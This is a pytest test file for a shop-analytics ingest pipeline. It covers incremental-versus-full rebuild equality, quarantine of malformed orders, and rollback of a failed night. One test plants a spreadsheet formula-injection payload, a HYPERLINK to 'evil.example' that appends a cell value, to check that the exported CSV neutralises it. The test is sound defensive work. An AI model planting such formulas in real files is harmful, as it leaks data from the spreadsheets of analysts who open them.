"""Ingest: incremental nights equal a full rebuild (every feature table and every signal);
bad rows are quarantined with a reason; the fast SQLite path reads exactly what the generic
path reads."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from _support import add_worst_rows, sqlite_session
from sqlalchemy import select

from tend.features import ingest
from tend.features import store as feature_store
from tend.shop import read as shop
from tend.signals import detect_all
from tend.store import migrate
from tend.store.db import connect
from tend.store.tables import quarantine

NIGHT = dt.date(2026, 11, 20)
NOW = dt.datetime(2026, 11, 23, 12, tzinfo=dt.UTC)

pytestmark = pytest.mark.demo_shop(customers=1500, seed=3, as_of=NIGHT)


def _store(tmp_path: Path, name: str) -> str:
    url = f"sqlite:///{tmp_path / name}"
    migrate(url)
    return url


def test_incremental_nights_equal_a_full_rebuild(shop_url: str, tmp_path: Path) -> None:
    inc = _store(tmp_path, "inc.db")
    modes = [ingest.run_ingest(shop_url, inc, NIGHT - dt.timedelta(days=d), f"r{d}").mode
             for d in (90, 40, 39, 7, 0)]
    assert modes == ["full"] + ["incremental"] * 4
    full = _store(tmp_path, "full.db")
    ingest.run_ingest(shop_url, full, NIGHT, "full", full=True)
    a, b = feature_store.read_feature_set(inc), feature_store.read_feature_set(full)
    assert len(a.customers) > 1000 and len(a.skus) > len(a.customers)
    pd.testing.assert_frame_equal(a.customers, b.customers)
    pd.testing.assert_frame_equal(a.skus, b.skus)
    pd.testing.assert_frame_equal(a.daily, b.daily)
    pd.testing.assert_frame_equal(detect_all(inc, shop_url, NIGHT),
                                  detect_all(full, shop_url, NIGHT))


def test_an_incremental_night_only_touches_changed_customers(shop_url: str,
                                                             tmp_path: Path) -> None:
    store = _store(tmp_path, "s.db")
    ingest.run_ingest(shop_url, store, NIGHT - dt.timedelta(days=1), "r1")
    result = ingest.run_ingest(shop_url, store, NIGHT, "r2")
    assert result.mode == "incremental"
    assert 0 < result.changed_customers < 200


def test_store_features_equal_features_computed_from_the_shop(shop_url: str,
                                                              tmp_path: Path) -> None:
    store = _store(tmp_path, "s.db")
    ingest.run_ingest(shop_url, store, NIGHT, "r1")
    stored = feature_store.read_feature_set(store)
    direct, _ = ingest.compute_from_shop(shop_url, NIGHT)
    cols = list(stored.customers.columns)
    pd.testing.assert_frame_equal(stored.customers,
                                  direct.customers[cols].sort_values("customer_id",
                                                                     ignore_index=True),
                                  check_dtype=False)


BAD_ORDERS = [
    ("BAD-1", "", "2026-10-01 10:00:00", "10.00", "order without a customer"),
    ("BAD-2", "NOBODY", "2026-10-01 10:00:00", "10.00", "unknown customer"),
    ("BAD-3", "C000001", "2026-10-01 10:00:00", "-5.00", "negative order total"),
    ("BAD-4", "C000001", "2026-10-01 10:00:00", "5000000", "absurd amount"),
    ("BAD-5", "C000001", "not a date", "10.00", "unparseable ordered_at"),
    ("BAD-6", "C000001", "2026-12-25 10:00:00", "10.00", "in the future"),
    ("BAD-7", "C000001", "2026-10-01 10:00:00", "ten", "total is not a number"),
]
BAD_LINES = [
    ("O0000001", "NO-SUCH-SKU", 1, "unknown sku"),
    ("NO-SUCH-ORDER", "HOM-CANDLE", 1, "unknown order"),
    ("O0000002", "HOM-CANDLE", -2, "positive whole number"),
]


def _add_bad_rows(url: str) -> None:
    with sqlite_session(url.removeprefix("sqlite:///")) as raw:
        raw.executemany("INSERT INTO orders (order_id, customer_id, ordered_at, total, currency) "
                        "VALUES (?, ?, ?, ?, 'CAD')", [b[:4] for b in BAD_ORDERS])
        raw.executemany("INSERT INTO order_lines (order_id, sku, quantity, unit_price) "
                        "VALUES (?, ?, ?, 1)", [b[:3] for b in BAD_LINES])
        # Well-formed rows stored with odd types the fast path must re-read as text.
        raw.execute("UPDATE orders SET total = '12.50' WHERE order_id = 'O0000003'")
        raw.execute("UPDATE orders SET ordered_at = '2026-01-05T10:00:00-05:00' "
                    "WHERE order_id = 'O0000004'")


def test_bad_rows_are_quarantined_counted_and_never_fatal(shop_url: str,
                                                          tmp_path: Path) -> None:
    _add_bad_rows(shop_url)
    store = _store(tmp_path, "s.db")
    result = ingest.run_ingest(shop_url, store, NIGHT, "r1", now=NOW)
    reasons = " | ".join(result.quarantined)
    for *_, expected in BAD_ORDERS + BAD_LINES:
        assert expected in reasons
    assert sum(result.quarantined.values()) == len(BAD_ORDERS) + len(BAD_LINES)
    assert "rows quarantined" in result.lines()[0]
    with connect(store).connect() as conn:
        keys = {k for (k,) in conn.execute(select(quarantine.c.record_key))}
    assert {b[0] for b in BAD_ORDERS} <= keys
    assert "O0000001:NO-SUCH-SKU" in keys


def test_a_replay_does_not_call_later_orders_future(shop_url: str) -> None:
    _add_bad_rows(shop_url)
    h = shop.read_history(shop_url, NIGHT - dt.timedelta(days=60), now=NOW)
    reasons = {q.reason for q in h.quarantined}
    assert sum("future" in r for r in reasons) == 1  # only BAD-6, dated after the run's date
    assert (h.orders["ordered_at"] < pd.Timestamp(NIGHT - dt.timedelta(days=59), tz="UTC")).all()


def test_fast_sqlite_path_reads_exactly_what_the_generic_path_reads(
        shop_url: str, caplog: pytest.LogCaptureFixture) -> None:
    _add_bad_rows(shop_url)
    fast = shop.read_history(shop_url, NIGHT, now=NOW)
    subset = shop.read_history(shop_url, NIGHT, ["C000001", "C000002", "NOBODY"], now=NOW)
    assert "fast SQLite read failed" not in caplog.text  # the fast path did the reading
    slow = shop._read_generic(shop_url, NIGHT, None, now=NOW, lines=True)
    pd.testing.assert_frame_equal(fast.orders, slow.orders)
    pd.testing.assert_frame_equal(fast.lines, slow.lines)
    assert sorted((q.record_key, q.reason) for q in fast.quarantined) == sorted(
        (q.record_key, q.reason) for q in slow.quarantined)
    assert fast.rows_read == slow.rows_read
    assert fast.orders.set_index("order_id").loc["O0000003", "total"] == 12.5
    slow_subset = shop._read_generic(shop_url, NIGHT, ["C000001", "C000002", "NOBODY"], now=NOW,
                                     lines=True)
    pd.testing.assert_frame_equal(subset.orders, slow_subset.orders)
    pd.testing.assert_frame_equal(subset.lines, slow_subset.lines)


def test_a_full_read_in_many_parts_equals_one_part(shop_url: str, monkeypatch: pytest.MonkeyPatch,
                                                   caplog: pytest.LogCaptureFixture) -> None:
    """Runs of one order's lines cut by the boundary between two parts stay one run."""
    _add_bad_rows(shop_url)
    whole = shop.read_history(shop_url, NIGHT, now=NOW)
    monkeypatch.setattr("tend.shop.sqlite_fast._PART_ROWS", 777)
    parts = shop.read_history(shop_url, NIGHT, now=NOW)
    assert "fast SQLite read failed" not in caplog.text
    pd.testing.assert_frame_equal(whole.orders, parts.orders)
    pd.testing.assert_frame_equal(whole.lines, parts.lines)
    assert sorted((q.record_key, q.reason) for q in whole.quarantined) == sorted(
        (q.record_key, q.reason) for q in parts.quarantined)


def test_cli_features_and_signals_replay_a_past_night(shop_url: str, tmp_path: Path) -> None:
    from tend.cli import main

    night = NIGHT - dt.timedelta(days=45)
    assert main(["features", "--db", shop_url, "--as-of", str(night),
                 "--out", str(tmp_path / "f.csv")]) == 0
    f = pd.read_csv(tmp_path / "f.csv")
    assert {"customer_id", "lapse_score", "expected_next_order", "value_estimate",
            "orders_count", "median_interval_days", "season_doy"} <= set(f.columns)
    assert f["lapse_score"].between(0, 1).all()
    assert (pd.to_datetime(f["last_order_date"]) <= pd.Timestamp(night)).all()
    assert main(["signals", "--db", shop_url, "--as-of", str(night),
                 "--out", str(tmp_path / "s.csv")]) == 0
    s = pd.read_csv(tmp_path / "s.csv")
    assert list(s.columns[:6]) == ["customer_id", "signal", "score", "due_date", "valid_until",
                                   "reason"]
    assert (pd.to_datetime(s["valid_until"]) >= pd.Timestamp(night)).all()
    store = _store(tmp_path, "s.db")
    assert main(["signals", "--db", shop_url, "--store", store, "--as-of", str(night),
                 "--out", str(tmp_path / "x.csv")]) == 2  # not ingested for that night


def test_cli_signals_csv_shows_a_formula_named_product_as_text(shop_url: str,
                                                               tmp_path: Path) -> None:
    """A product the shop named like a spreadsheet formula reaches the analysts' CSV behind an
    apostrophe, so opening the file runs nothing; every other cell is as computed."""
    import sqlite3

    from tend.cli import main

    bad = '=HYPERLINK("http://evil.example/?x="&A2,"details")'
    with sqlite3.connect(shop_url.removeprefix("sqlite:///")) as db:
        db.execute("UPDATE products SET name = ?", (bad,))
    assert main(["signals", "--db", shop_url, "--as-of", str(NIGHT),
                 "--out", str(tmp_path / "s.csv")]) == 0
    s = pd.read_csv(tmp_path / "s.csv", dtype=str, keep_default_na=False)
    named = s.loc[s["product_name"] != "", "product_name"]
    assert len(named) and (named == "'" + bad).all()
    cells = s.drop(columns="product_name").to_numpy().ravel()
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]


@pytest.mark.parametrize("helper_rows", [0, 10**9], ids=["helper-process", "in-process"])
def test_bulk_written_rows_read_back_through_sqlalchemy_on_both_backends(
        shop_url: str, store_url: str, helper_rows: int, monkeypatch: pytest.MonkeyPatch) -> None:
    """The feature rows go in as Arrow columns, range of customers by range (ADBC in a helper
    process or the driver's executemany on SQLite, COPY on PostgreSQL) in the format
    SQLAlchemy stores: its typed
    columns read back the computed values, and an incremental night still equals the
    features computed straight from the shop, whichever way they were written and read."""
    from sqlalchemy import select

    monkeypatch.setattr(feature_store, "HELPER_PROCESS_ROWS", helper_rows)
    monkeypatch.setattr(ingest, "PART_LINES", 700)  # written range by range

    from tend.store.tables import PRODUCT_COLUMNS, customer_features, feature_skus, ingest_state

    ingest.run_ingest(shop_url, store_url, NIGHT - dt.timedelta(days=7), "r1")
    ingest.run_ingest(shop_url, store_url, NIGHT, "r2")
    direct, _ = ingest.compute_from_shop(shop_url, NIGHT)
    with connect(store_url).connect() as conn:
        row = conn.execute(select(customer_features).order_by(
            customer_features.c.customer_id).limit(1)).one()
        codes = dict(conn.execute(select(feature_skus.c.code, feature_skus.c.sku)).all())
        state = conn.execute(select(ingest_state)).one()
    first = direct.customers.iloc[0]
    bought = direct.skus[direct.skus["customer_id"] == first["customer_id"]]

    def utc(t: dt.datetime) -> dt.datetime:
        return t if t.tzinfo else t.replace(tzinfo=dt.UTC)

    # as_of is the night the row was last computed
    assert row.customer_id == first["customer_id"]
    assert row.as_of in (NIGHT, NIGHT - dt.timedelta(days=7))
    assert utc(row.first_order_at) == first["first_order_at"].to_pydatetime()
    assert utc(row.last_order_at) == first["last_order_at"].to_pydatetime()
    assert row.total_spent == first["total_spent"] and row.orders_count == first["orders_count"]
    assert (row.median_interval_days is None) == bool(np.isnan(first["median_interval_days"]))
    assert row.order_days == first["order_days"] and row.season_sku == first["season_sku"]
    # the products, packed: one little-endian array per column, in the skus' order
    packed = {k: np.frombuffer(getattr(row, f"product_{k}"), dtype)
              for k, dtype in PRODUCT_COLUMNS.items()}
    assert row.products == len(bought) > 0
    assert [codes[c] for c in packed["sku"]] == bought["sku"].tolist()
    epoch = dt.date(1970, 1, 1)
    assert [epoch + dt.timedelta(days=int(d)) for d in packed["last_day"]] == \
        bought["last_day"].tolist()
    np.testing.assert_array_equal(packed["quantity"], bought["quantity"])
    np.testing.assert_array_equal(packed["gap_median"], bought["gap_median"])
    assert state.as_of == NIGHT
    stored = feature_store.read_feature_set(store_url)
    pd.testing.assert_frame_equal(stored.customers, direct.customers, check_dtype=False)
    pd.testing.assert_frame_equal(stored.skus, direct.skus, check_dtype=False)
    pd.testing.assert_frame_equal(stored.daily, direct.daily, check_dtype=False)


@pytest.mark.parametrize("helper_rows", [0, 10**9], ids=["helper-process", "in-process"])
def test_a_night_that_fails_half_way_commits_nothing(
        shop_url: str, tmp_path: Path, helper_rows: int, monkeypatch: pytest.MonkeyPatch) -> None:
    """The features are written range by range as they are computed; if computing a later
    range fails, the ranges already sent must not be committed: the store keeps the previous
    night whole (rows, watermark), and the next run does the night again."""
    store = _store(tmp_path, "s.db")
    monkeypatch.setattr(feature_store, "HELPER_PROCESS_ROWS", helper_rows)
    ingest.run_ingest(shop_url, store, NIGHT - dt.timedelta(days=7), "r1", full=True)
    before = feature_store.read_feature_set(store)
    real_parts = ingest.feature_parts
    monkeypatch.setattr(ingest, "PART_LINES", 500)  # several ranges

    def failing(frames: list[pd.DataFrame | None], **kw: int):  # type: ignore[no-untyped-def]
        parts = real_parts(frames, **kw)
        for _ in range(3):  # three ranges go to the store, then the night fails
            yield next(parts)
        raise MemoryError("out of memory half way")

    monkeypatch.setattr(ingest, "feature_parts", failing)
    with pytest.raises(MemoryError):
        ingest.run_ingest(shop_url, store, NIGHT, "r2", full=True)
    assert feature_store.store_as_of(store) == NIGHT - dt.timedelta(days=7)
    after = feature_store.read_feature_set(store)
    pd.testing.assert_frame_equal(after.customers, before.customers)
    pd.testing.assert_frame_equal(after.skus, before.skus)
    monkeypatch.setattr(ingest, "feature_parts", real_parts)
    assert ingest.run_ingest(shop_url, store, NIGHT, "r3").mode == "incremental"


def test_a_changed_customer_left_without_clean_orders_loses_the_row(
        shop_url: str, tmp_path: Path) -> None:
    """On SQLite an incremental night replaces changed customers' rows in place; a changed
    customer whose every order is now quarantined must lose the row, as a full rebuild has it."""
    store = _store(tmp_path, "s.db")
    ingest.run_ingest(shop_url, store, NIGHT - dt.timedelta(days=1), "r1", now=NOW)
    path = shop_url.removeprefix("sqlite:///")
    with sqlite_session(path) as con:
        cid = con.execute("SELECT customer_id FROM orders GROUP BY customer_id "
                          "HAVING count(*) = 1 LIMIT 1").fetchone()[0]
        con.execute("UPDATE orders SET total = -5 WHERE customer_id = ?", (cid,))
        con.execute("INSERT INTO orders (order_id, customer_id, ordered_at, total, currency) "
                    "VALUES ('LATE-1', ?, ?, -1, 'CAD')", (cid, f"{NIGHT} 10:00:00.000000"))
    assert cid in feature_store.read_feature_set(store).customers["customer_id"].tolist()
    ingest.run_ingest(shop_url, store, NIGHT, "r2", lookback_days=0, now=NOW)
    inc = feature_store.read_feature_set(store)
    assert cid not in inc.customers["customer_id"].tolist()
    assert cid not in inc.skus["customer_id"].tolist()
    full = _store(tmp_path, "full.db")
    ingest.run_ingest(shop_url, full, NIGHT, "f", now=NOW)
    pd.testing.assert_frame_equal(inc.customers,
                                  feature_store.read_feature_set(full).customers)


def test_the_worst_rows_never_fail_an_ingest_on_either_store(shop_url: str,
                                                             store_url: str) -> None:
    """NUL bytes, ids too long for the store, absurd numbers and dates: quarantined, and the
    night's features are written (PostgreSQL refuses a NUL in text: none reaches it)."""
    add_worst_rows(shop_url, NIGHT)
    result = ingest.run_ingest(shop_url, store_url, NIGHT, "r1", now=NOW)
    reasons = " | ".join(result.quarantined)
    for expected in ("NUL byte in order_id", "order_id longer than 64 characters",
                     "order line quantity above 10,000", "ordered_at before 1970-01-01",
                     "ordered_at after 2199-12-31", "order line with an unknown sku"):
        assert expected in reasons
    with connect(store_url).connect() as conn:
        keys = [k for (k,) in conn.execute(select(quarantine.c.record_key)) if k]
    assert keys and all("\x00" not in k and len(k) <= 200 for k in keys)
    fs, _ = ingest.compute_from_shop(shop_url, NIGHT)
    assert {"EVIL-1", "EVIL-2", "EVIL-4"} <= set(fs.customers["customer_id"])
